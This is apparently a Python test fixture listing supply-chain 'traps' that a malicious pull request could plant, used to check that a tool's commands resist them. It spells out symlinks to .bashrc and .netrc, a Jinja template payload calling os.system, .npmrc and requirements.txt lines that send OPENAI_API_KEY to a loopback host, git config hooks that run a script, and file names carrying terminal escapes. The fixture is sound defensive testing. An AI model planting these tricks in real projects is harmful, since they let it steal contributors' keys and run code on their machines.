"""What a pull request could put into a project to reach its reader's files, keys and terminal.

Each trap changes a sound project. It names what commands must say of it, unless it must simply have
no effect: then all goes on as if it were not there.
"""

from __future__ import annotations

import os
import re
import socket
from pathlib import Path
from typing import NamedTuple

SECRET = "bait-key-4f81c2d09e7a"
"""Stands in the user's variables and files: nothing that is printed, kept or sent may have it."""


class World(NamedTuple):
    """A user's machine, as far as this test has made it."""

    project: Path
    home: Path
    """The user's own folder, in which nothing may be read or changed."""
    ran: Path
    """A folder: whatever runs leaves a file in it."""
    port: int
    """Where what is sent arrives, on loopback."""

    def witness(self, name: str) -> str:
        """A command that shows that it was run."""
        return f"touch {self.ran}/{name}"

    def program(self, path: Path, name: str) -> None:
        """Write a program that shows that it was run."""
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"#!/bin/sh\n{self.witness(name)}\nexit 0\n")
        path.chmod(0o755)


class Trap(NamedTuple):
    """One of them."""

    name: str
    lay: object
    said: str = ""
    """Words that a command says of it; none if it must have no effect."""
    by: tuple[str, ...] = ("check",)
    """The command."""


def link(path: Path, target: Path | str) -> None:
    if path.is_dir() and not path.is_symlink():
        import shutil

        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


def insert(path: Path, before: str, text: str) -> None:
    content = path.read_text("utf-8")
    assert before in content, (path, before)
    path.write_text(content.replace(before, text + before, 1), "utf-8")


def replaced(path: Path, pattern: str, by: str) -> None:
    content, count = re.subn(pattern, lambda _: by, path.read_text("utf-8"), count=1)
    assert count, (path, pattern)
    path.write_text(content, "utf-8")


def bashrc_as_sample(world: World) -> None:
    link(world.project / "samples/curl/basic.sh", world.home / ".bashrc")


def secret_as_page(world: World) -> None:
    link(world.project / "docs/linked.md", world.home / "notes.md")


def secret_as_scenario(world: World) -> None:
    link(world.project / "samples/scenarios/linked.yaml", world.home / ".netrc")


def secret_as_recording(world: World) -> None:
    link(world.project / "samples/recordings/basic.yaml", world.home / ".netrc")


def home_as_client(world: World) -> None:
    link(world.project / "samples/linked", world.home)


def state_elsewhere(world: World) -> None:
    link(world.project / ".harness", world.home / "Documents")
    link(world.project / "samples/javascript/node_modules", world.home / "Documents")


def report_elsewhere(world: World) -> None:
    link(world.project / "build", world.home / "Documents")


def endless_sample(world: World) -> None:
    link(world.project / "samples/curl/multi_turn.sh", "/dev/zero")


def pipe_as_template(world: World) -> None:
    path = world.project / "samples/curl/sample.sh.j2"
    path.unlink()
    os.mkfifo(path)


def loop_as_page(world: World) -> None:
    link(world.project / "docs/loop.md", "loop.md")


def huge_neighbour(world: World) -> None:
    with (world.project / "samples/curl/huge.bin").open("wb") as file:
        file.truncate(3 << 30)  # takes no room


def socket_beside(world: World) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        here = Path.cwd()
        os.chdir(world.project / "samples/curl")  # a socket's path must be short
        try:
            listener.bind("socket")
        finally:
            os.chdir(here)


def template_that_runs(world: World) -> None:
    call = f'{{{{ cycler.__init__.__globals__.os.system("{world.witness("template")}") }}}}'
    insert(world.project / "samples/javascript/sample.js.j2", "import", call)


def template_without_end(world: World) -> None:
    loop = "{% for i in range(10**9) %}{% for j in range(10**9) %}{% endfor %}{% endfor %}"
    insert(world.project / "samples/python/sample.py.j2", "import", loop)


def module_in_the_environment(world: World) -> None:
    folder = world.project / "samples/python/trap"
    folder.mkdir()
    (world.project / "samples/python/trap/sitecustomize.py").write_text(
        f"import os\nos.system({world.witness('sitecustomize')!r})\n"
    )
    insert(
        world.project / "samples/python/client.yaml",
        "trust:",
        f"environment: {{PYTHONPATH: '{folder}'}}\n",
    )


def version_that_runs(world: World) -> None:
    path = world.project / "samples/curl/client.yaml"
    version = f"      version: ['-c', 'touch {world.ran}/version']\n"
    insert(path, "      install: install bash", version)


def npm_settings(world: World) -> None:
    world.program(world.project / "samples/javascript/evil.sh", "npmrc")
    (world.project / "samples/javascript/.npmrc").write_text(
        f"git=./evil.sh\nscript-shell=./evil.sh\nregistry=http://127.0.0.1:{world.port}/${{OPENAI_API_KEY}}/\n"
    )


def index_of_their_own(world: World) -> None:
    path = world.project / "samples/python/requirements.txt"
    path.write_text(
        f"--extra-index-url http://127.0.0.1:{world.port}/${{OPENAI_API_KEY}}/\n"
        + path.read_text("utf-8")
    )


def settings_of_uv(world: World) -> None:
    text = f'index-url = "http://127.0.0.1:{world.port}/simple"\n'
    for folder in ("", "samples", "samples/python"):
        (world.project / folder / "uv.toml").write_text(text)
        (world.project / folder / "pip.conf").write_text(f"[global]\n{text}")


def modules_beside(world: World) -> None:
    text = f"import os\nos.system({world.witness('module')!r})\n"
    for name in ("sitecustomize", "usercustomize", "jinja2", "click", "json", "ssl"):
        (world.project / f"{name}.py").write_text(text)


def repository_that_runs(world: World) -> None:
    world.program(world.project / "evil.sh", "git")
    config = world.project / ".git/config"
    lines = ["[core]", "\tfsmonitor = ./evil.sh", "\thooksPath = .", "\tpager = ./evil.sh"]
    lines += ["[diff]", "\texternal = ./evil.sh", '[filter "x"]', "\tclean = ./evil.sh"]
    lines += ["\tsmudge = ./evil.sh", "[uploadpack]", "\tpackObjectsHook = ./evil.sh", ""]
    config.write_text(config.read_text("utf-8") + "\n".join(lines))
    (world.project / ".gitattributes").write_text("* filter=x diff=x\n")


def key_sent_elsewhere(world: World) -> None:
    path = world.project / "samples/catalog.yaml"
    replaced(path, r"https://api\.openai\.com/v1", "https://endpoint.invalid/v1")


def words_of_another_kind(world: World) -> None:
    text = "::stop-commands::x\n::add-mask::a\n\x1b]0;title\x07\x1b[2J\u202e##[error]y\n"
    name = "::error file=x::\x1b[31mred.yaml"
    (world.project / "samples/scenarios" / name).write_text(text, "utf-8")


TRAPS = [
    Trap(
        "a link to .bashrc as a sample",
        bashrc_as_sample,
        "samples/curl/basic.sh",
        by=("render", "--force"),
    ),
    Trap(
        "a link to a user's notes as a page", secret_as_page, "docs/linked.md", by=("docs", "check")
    ),
    Trap("a link to .netrc as a scenario", secret_as_scenario, "samples/scenarios/linked.yaml"),
    Trap("a link to .netrc as a recording", secret_as_recording, "samples/recordings/basic.yaml"),
    Trap("a link to the home as a client", home_as_client, "samples/linked"),
    Trap("a link as the project's old state", state_elsewhere),
    Trap("a link as the folder of reports", report_elsewhere, "build", by=("run", "curl")),
    Trap("an endless sample", endless_sample, "samples/curl/multi_turn.sh", by=("run", "curl")),
    Trap("a pipe as a template", pipe_as_template, "sample.sh.j2"),
    Trap("a page that leads to itself", loop_as_page, "docs/loop.md", by=("docs", "check")),
    Trap("a huge file beside a sample", huge_neighbour),
    Trap("a socket beside a sample", socket_beside),
    Trap(
        "a template that runs a command",
        template_that_runs,
        "samples/javascript/sample.js.j2",
        by=("render", "--check"),
    ),
    Trap(
        "a template without an end",
        template_without_end,
        "samples/python/sample.py.j2",
        by=("render", "--check"),
    ),
    Trap("a variable that loads a module", module_in_the_environment),
    Trap(
        "a question for a version that runs",
        version_that_runs,
        "samples/curl/client.yaml",
        by=("doctor",),
    ),
    Trap("settings for npm", npm_settings, "samples/javascript/.npmrc", by=("doctor",)),
    Trap(
        "an index of packages",
        index_of_their_own,
        "samples/python/requirements.txt",
        by=("doctor",),
    ),
    Trap("settings for uv and pip", settings_of_uv),
    Trap("modules with names of ours", modules_beside),
    Trap("a repository whose settings run", repository_that_runs),
    Trap(
        "a key that is sent elsewhere",
        key_sent_elsewhere,
        "endpoint.invalid",
        by=("run", "--live", "openai"),
    ),
    Trap("a file name with commands", words_of_another_kind, "red.yaml"),
]
